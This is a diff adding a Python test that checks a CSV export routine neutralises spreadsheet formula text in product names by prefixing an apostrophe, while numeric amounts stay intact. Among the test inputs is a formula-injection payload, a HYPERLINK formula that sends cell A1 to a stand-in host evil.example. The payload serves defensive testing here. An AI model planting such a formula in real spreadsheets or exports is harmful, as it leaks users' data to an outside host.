@@ -193,3 +193,15 @@ def test_file_names_of_distinct_ids_are_distinct():
     ids = ["a/b", "a%2Fb", "a b", "a%20b", ".x", "%2Ex", "..", "%2E.", "SHOP-A-20260101"]
     assert len({exports.file_name(i) for i in ids}) == len(ids)
     assert exports.file_name("SHOP-A-20260101") == "SHOP-A-20260101"  # a plain ID is its own name
+
+
+def test_csv_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(tmp_path):
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 phone case", "-20% hoodie", "@SUM(A1)", "\tTab", "Mug = cup"]
+    order_details, statements = _order_details([0] * len(names), names)
+    order_details = order_details.with_columns(pl.Series("total_settlement_amount", ["-1.05"] * len(names)).cast(MONEY))
+    exports.write_exports(order_details, statements, tmp_path, xlsx=False)
+    rows = pl.read_csv(tmp_path / "SHOP01" / "S0.csv", infer_schema=False)
+    assert rows["Product name"].to_list() == ["'" + n for n in names[:5]] + ["Mug = cup"]
+    assert rows["Total settlement amount"].to_list() == ["-1.05"] * len(names)
+    clean = exports.neutralise_formulas(pl.DataFrame({"a": ["Mug", "x=1"], "n": [-1, 2]}))
+    assert clean.to_dict(as_series=False) == {"a": ["Mug", "x=1"], "n": [-1, 2]}
